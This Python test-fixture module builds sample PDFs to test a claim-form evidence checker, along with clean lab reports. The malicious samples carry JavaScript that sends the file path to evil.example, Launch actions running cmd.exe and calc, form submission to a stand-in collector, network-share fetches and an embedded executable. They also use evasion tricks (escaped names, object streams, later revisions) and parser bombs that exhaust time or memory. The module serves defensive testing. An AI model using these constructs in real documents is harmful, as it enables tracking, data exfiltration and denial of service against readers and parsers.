"""Evidence PDFs for the claim form, written byte by byte so that each carries exactly the
construct under test (escaped names, object streams, a later revision), plus clean reports.

ATTACKS and HOSTILE map a case id to (a function making the PDF, the reason the checker must
give): ATTACKS act on the reader's machine, HOSTILE ones attack the checker itself (time,
memory). CLEAN maps an id to a function making a PDF that must be accepted unchanged.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable, Mapping

from pypdf import PdfWriter
from reportlab.lib.utils import ImageReader
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen.canvas import Canvas

from tests.conftest import jpeg_bytes

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def objects(
    catalog: bytes = b"", page: bytes = b"", extra: Mapping[int, bytes] | None = None
) -> dict[int, bytes]:
    """A one-page report: catalog 1, pages 2, page 3, contents 4, font 5; extras from 6."""
    found = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
        4: stream(b"BT /F1 12 Tf 20 100 Td (Lab report 2026-118) Tj ET"),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    found.update(extra or {})
    return found


def _body(out: bytearray, number: int, body: bytes) -> int:
    offset = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return offset


def _last_startxref(pdf: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])


def build(found: Mapping[int, bytes], *, earlier: bytes = b"") -> bytes:
    """One revision: the objects, a classic xref table for them and a trailer. With `earlier`,
    an incremental update appended to that file (its trailer points back with /Prev)."""
    out = bytearray(earlier or HEADER)
    offsets = {n: _body(out, n, body) for n, body in sorted(found.items())}
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in offsets.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    prev = b" /Prev %d" % _last_startxref(earlier) if earlier else b""
    size = max(offsets) + 1
    if earlier:
        size = max(size, int(re.findall(rb"/Size (\d+)", earlier)[-1]))
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (size, prev, xref)
    return bytes(out)


def with_object_stream(
    found: Mapping[int, bytes], packed: set[int], *, encrypted: bool = False
) -> bytes:
    """PDF 1.5 layout: the `packed` objects compressed inside an object stream, located through
    a cross-reference stream (no xref table, no trailer keyword): none of their bytes is plain.
    `encrypted`: the object stream is scrambled as a cipher would, and the file says so."""
    out = bytearray(HEADER)
    where: dict[int, tuple[int, int, int]] = {}
    for number in sorted(set(found) - packed):
        where[number] = (1, _body(out, number, found[number]), 0)
    container = max(found) + 1
    heads, bodies = [], b""
    for index, number in enumerate(sorted(packed)):
        heads.append(b"%d %d" % (number, len(bodies)))
        bodies += found[number] + b"\n"
        where[number] = (2, container, index)
    head = b" ".join(heads) + b"\n"
    packed_data = zlib.compress(head + bodies)
    if encrypted:
        packed_data = bytes(b ^ 0x5A for b in packed_data)
    where[container] = (
        1,
        _body(
            out,
            container,
            stream(
                packed_data,
                b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(head)),
            ),
        ),
        0,
    )
    xref_number = container + 1
    xref_offset = len(out)
    where[xref_number] = (1, xref_offset, 0)
    rows = b"\x00\x00\x00\x00\x00\xff\xff" + b"".join(
        bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big")
        for kind, a, b in (where[n] for n in range(1, xref_number + 1))
    )
    _body(
        out,
        xref_number,
        stream(
            rows,
            b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1)
            + (b" /Encrypt << /Filter /Standard /V 4 /R 4 /Length 128 >>" if encrypted else b""),
        ),
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def _annotation(annotation: bytes, extra: Mapping[int, bytes] | None = None) -> bytes:
    return build(objects(page=b"/Annots [6 0 R]", extra={6: annotation, **(extra or {})}))


def _open_action(action: bytes) -> bytes:
    return build(objects(catalog=b"/OpenAction " + action))


def _encrypted() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password="", owner_password="owner-only", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


JS = b"<< /S /JavaScript /JS (app.launchURL('https://evil.example/'+this.path);) >>"
NETWORK_SHARE = rb"(\\\\198.51.100.7\\share\\report.pdf)"
EXE = stream(b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.")

ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "open-action-javascript": (lambda: _open_action(JS), "javascript"),
    # Names written with #xx escapes hide from a byte search; the parser decodes them.
    "escaped-names": (
        lambda: _open_action(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "javascript",
    ),
    "names-javascript-tree": (
        lambda: build(
            objects(
                catalog=b"/Names << /JavaScript 6 0 R >>",
                extra={
                    6: b"<< /Names [(startup) 7 0 R] >>",
                    7: b"<< /S /JavaScript /JS 8 0 R >>",
                    8: stream(b"app.alert('hi');"),
                },
            )
        ),
        "javascript",
    ),
    "page-additional-action": (
        lambda: build(objects(page=b"/AA << /O " + JS + b" >>")),
        "javascript",
    ),
    "document-will-close-action": (
        lambda: build(objects(catalog=b"/AA << /WC " + JS + b" >>")),
        "javascript",
    ),
    "launch": (
        lambda: _open_action(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "launch",
    ),
    "submit-form-button": (
        lambda: build(
            objects(
                catalog=b"/AcroForm << /Fields [6 0 R] >>",
                page=b"/Annots [6 0 R]",
                extra={
                    6: b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) "
                    b"/Rect [10 10 90 40] /P 3 0 R /A << /S /SubmitForm "
                    b"/F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >> >>"
                },
            )
        ),
        "submit_form",
    ),
    "import-data-outline": (
        lambda: build(
            objects(
                catalog=b"/Outlines 6 0 R",
                extra={
                    6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                    7: b"<< /Title (Results) /Parent 6 0 R /A << /S /ImportData /F "
                    + NETWORK_SHARE
                    + b" >> >>",
                },
            )
        ),
        "import_data",
    ),
    "reset-form-field": (
        lambda: build(
            objects(
                catalog=b"/AcroForm << /Fields [6 0 R] >>",
                page=b"/Annots [6 0 R]",
                extra={
                    6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (mass) /Rect [10 10 90 40] "
                    b"/AA << /Bl << /S /ResetForm >> >> >>"
                },
            )
        ),
        "reset_form",
    ),
    "goto-remote-network-share": (
        lambda: _annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] "
            b"/A << /S /GoToR /F " + NETWORK_SHARE + b" /D [0 /Fit] /NewWindow true >> >>"
        ),
        "remote_file",
    ),
    "goto-embedded": (
        lambda: _open_action(b"<< /S /GoToE /T << /R /C /N (payload.pdf) >> /D [0 /Fit] >>"),
        "remote_file",
    ),
    "uri-open-action": (
        lambda: _open_action(b"<< /S /URI /URI (https://evil.example/track?id=1) >>"),
        "uri",
    ),
    "thread-action": (
        lambda: _annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Thread /D 0 >> >>"
        ),
        "action",
    ),
    "goto-chained-to-javascript": (
        lambda: _open_action(b"<< /S /GoTo /D [3 0 R /Fit] /Next " + JS + b" >>"),
        "javascript",
    ),
    # The action type is an indirect object, so no `/S /Launch` appears anywhere in the file.
    "indirect-action-type": (
        lambda: build(
            objects(
                catalog=b"/OpenAction 6 0 R",
                extra={6: b"<< /S 7 0 R /F (calc.exe) >>", 7: b"/Launch"},
            )
        ),
        "launch",
    ),
    "sound-annotation": (
        lambda: _annotation(
            b"<< /Type /Annot /Subtype /Sound /Rect [0 0 20 20] /Sound 7 0 R >>",
            {7: stream(b"\x00" * 64, b"/Type /Sound /R 8000")},
        ),
        "multimedia",
    ),
    "movie-annotation": (
        lambda: _annotation(
            b"<< /Type /Annot /Subtype /Movie /Rect [0 0 100 100] "
            b"/Movie << /F (clip.mov) /Aspect [100 100] >> /A true >>"
        ),
        "multimedia",
    ),
    # Even a jump inside the document is an action; a link by /Dest is not (see CLEAN).
    "goto-link-action": (
        lambda: _annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /GoTo /D [3 0 R /Fit] >> >>"
        ),
        "action",
    ),
    "rendition-screen": (
        lambda: _annotation(
            b"<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] /A << /S /Rendition /OP 0 "
            b"/R << /Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD "
            b"/D << /Type /Filespec /F (clip.mp4) >> >> >> >> >>"
        ),
        "multimedia",
    ),
    "rich-media": (
        lambda: _annotation(
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] "
            b"/RichMediaContent << /Assets << /Names [] >> >> >>"
        ),
        "multimedia",
    ),
    "embedded-exe": (
        lambda: build(
            objects(
                catalog=b"/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>",
                extra={
                    6: b"<< /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F 7 0 R >> >>",
                    7: EXE.replace(b"<< ", b"<< /Type /EmbeddedFile "),
                },
            )
        ),
        "attachment",
    ),
    "file-attachment-annotation": (
        lambda: _annotation(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS << /Type /Filespec "
            b"/F (invoice.exe) /EF << /F 7 0 R >> >> >>",
            {7: EXE},
        ),
        "attachment",
    ),
    "xfa-form": (
        lambda: build(
            objects(
                catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>",
                extra={6: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")},
            )
        ),
        "xfa",
    ),
    # An image whose bytes a reader would fetch from a web server when it draws the page.
    "external-stream-url": (
        lambda: build(
            objects(
                page=b"/Resources << /XObject << /Im1 6 0 R >> >>",
                extra={
                    6: stream(
                        b"",
                        b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 "
                        b"/ColorSpace /DeviceGray "
                        b"/F << /FS /URL /F (https://evil.example/p.gif) >>",
                    )
                },
            )
        ),
        "uri",
    ),
    "reference-xobject-network-share": (
        lambda: build(
            objects(
                page=b"/Resources << /XObject << /Fm1 6 0 R >> >>",
                extra={
                    6: stream(
                        b"",
                        b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] "
                        b"/Ref << /F " + NETWORK_SHARE + b" /Page 0 >>",
                    )
                },
            )
        ),
        "remote_file",
    ),
    # Only the decompressed object stream holds the catalog and its action.
    "object-stream": (
        lambda: with_object_stream(
            objects(catalog=b"/OpenAction << /S /URI /URI (https://evil.example/) >>"), {1, 2}
        ),
        "uri",
    ),
    # The first revision is clean; the update appended later gives the catalog an action.
    "later-revision": (
        lambda: build(
            {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (calc.exe) >> >>"},
            earlier=build(objects()),
        ),
        "launch",
    ),
    # Not referenced by any xref: a reader that rebuilds a damaged xref would still find it.
    "stray-object-after-eof": (
        lambda: build(objects()) + b"9 0 obj\n" + JS + b"\nendobj\n",
        "javascript",
    ),
    "encrypted": (_encrypted, "encrypted"),
    # Said before its object streams, which are ciphertext, would read as a broken file.
    "encrypted-object-streams": (
        lambda: with_object_stream(objects(), {1, 2, 5}, encrypted=True),
        "encrypted",
    ),
    "not-a-pdf-body": (lambda: b"%PDF-1.7\nthis is not a pdf", "malformed"),
}


def _xref_stream_claiming(entries: int) -> bytes:
    """A clean file updated by a cross-reference stream of `entries` rows, all alike: 20 KB."""
    base = build(objects())
    row = b"\x01" + base.index(b"1 0 obj").to_bytes(4, "big") + b"\x00\x00"
    rows = zlib.compressobj(9)
    packed = b"".join(rows.compress(row * 100_000) for _ in range(entries // 100_000))
    packed += rows.flush()
    update = stream(
        packed, b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode" % entries
    )
    return base + b"99 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (update, len(base))


def _inflating_object_stream(megabytes: int) -> bytes:
    zeros = zlib.compressobj(9)
    packed = b"".join(zeros.compress(b"0" * 1024 * 1024) for _ in range(megabytes))
    packed += zeros.flush()
    header = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    return build(objects(extra={6: stream(packed, header)}))


def _shared_page_tree(fan_out: int) -> bytes:
    """Two levels of /Kids that all point at one node: fan_out² pages from 4 objects."""
    kids = b"[" + b"7 0 R " * fan_out + b"]"
    leaves = b"[" + b"3 0 R " * fan_out + b"]"
    return build(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids " + kids + b" /Count %d >>" % fan_out**2,
            7: b"<< /Type /Pages /Parent 2 0 R /Kids " + leaves + b" /Count %d >>" % fan_out,
            3: b"<< /Type /Page /Parent 7 0 R /MediaBox [0 0 200 200] >>",
        }
    )


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "deep-nesting": (
        lambda: build(objects(catalog=b"/Deep " + b"[" * 200_000 + b"]" * 200_000)),
        "too_complex",
    ),
    "two-million-xref-stream-entries": (lambda: _xref_stream_claiming(2_000_000), "too_complex"),
    "object-stream-inflating-to-100-mb": (lambda: _inflating_object_stream(100), "too_complex"),
    "a-million-pages-from-shared-kids": (lambda: _shared_page_tree(1000), "too_complex"),
    "half-a-million-numbers": (
        lambda: build(objects(catalog=b"/X [" + (b"[" + b"1 " * 50_000 + b"] ") * 10 + b"]")),
        "too_complex",
    ),
    # pypdf parses a trailer on opening, and every object when it repairs a broken xref: both
    # took it 35-50 s on 10 MB before anything was budgeted; now the budget reads first.
    "numbers-in-the-trailer": (
        lambda: build(objects()).replace(
            b"trailer\n<< ", b"trailer\n<< /X [" + (b"[" + b"1 " * 50_000 + b"] ") * 30 + b"] "
        ),
        "too_complex",
    ),
    "numbers-and-a-broken-xref": (
        lambda: build(
            objects(extra={6 + i: b"[" + b"1 " * 50_000 + b"]" for i in range(30)})
        ).replace(b"startxref\n", b"startxref\n9"),
        "too_complex",
    ),
    "thirty-thousand-objects": (
        lambda: build(objects(extra={6 + i: b"<< /K %d >>" % i for i in range(30_000)})),
        "too_complex",
    ),
}


def plain_pdf() -> bytes:
    """What reportlab writes for a one-line page."""
    out = io.BytesIO()
    canvas = Canvas(out)
    canvas.drawString(72, 720, "Test report")
    canvas.showPage()
    canvas.save()
    return out.getvalue()


def lab_report() -> bytes:
    """A lab's two-page report as reportlab writes it: Chinese text, the item photo, bookmarks
    and an internal link (destinations, not actions), compressed pages."""
    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    out = io.BytesIO()
    canvas = Canvas(out, pageCompression=1)
    canvas.setTitle("检测报告 NGTC-2026-118")
    canvas.setFont("STSong-Light", 16)
    canvas.drawString(72, 780, "国家珠宝玉石质量监督检验中心 检测报告")
    canvas.setFont("STSong-Light", 11)
    for i, line in enumerate(["样品名称：足金戒指", "检测结论：金含量 999.2‰", "质量：5.03 g"]):
        canvas.drawString(72, 740 - 18 * i, line)
    canvas.drawImage(ImageReader(io.BytesIO(jpeg_bytes((640, 480)))), 72, 420, 240, 180)
    canvas.bookmarkPage("results")
    canvas.addOutlineEntry("检测结果", "results", 0)
    canvas.linkAbsolute("附录", "appendix", (72, 380, 200, 400))
    canvas.showPage()
    canvas.setFont("STSong-Light", 11)
    canvas.drawString(72, 780, "附录：检测方法 GB/T 18043")
    canvas.bookmarkPage("appendix")
    canvas.addOutlineEntry("附录", "appendix", 0)
    canvas.showPage()
    canvas.save()
    return out.getvalue()


CLEAN: dict[str, Callable[[], bytes]] = {
    "reportlab-plain": plain_pdf,
    "reportlab-lab-report": lab_report,
    "pypdf-blank": lambda: _pypdf_blank(),
    # Opening at a page is a destination, not an action.
    "open-at-destination": lambda: build(objects(catalog=b"/OpenAction [3 0 R /Fit]")),
    # Tagged PDF (Word's export): structure elements carry layout attributes under /A.
    "tagged-structure-attributes": lambda: build(
        objects(
            catalog=b"/MarkInfo << /Marked true >> /StructTreeRoot 6 0 R",
            extra={
                6: b"<< /Type /StructTreeRoot /K [7 0 R] >>",
                7: b"<< /Type /StructElem /S /Table /P 6 0 R /Pg 3 0 R "
                b"/A << /O /Layout /Placement /Block /BBox [0 0 200 200] >> >>",
            },
        )
    ),
    "clean-object-stream": lambda: with_object_stream(objects(), {1, 2, 5}),
    "clean-later-revision": lambda: build(
        {4: stream(b"BT /F1 12 Tf 20 80 Td (Corrected page) Tj ET")}, earlier=build(objects())
    ),
}


def _pypdf_blank() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
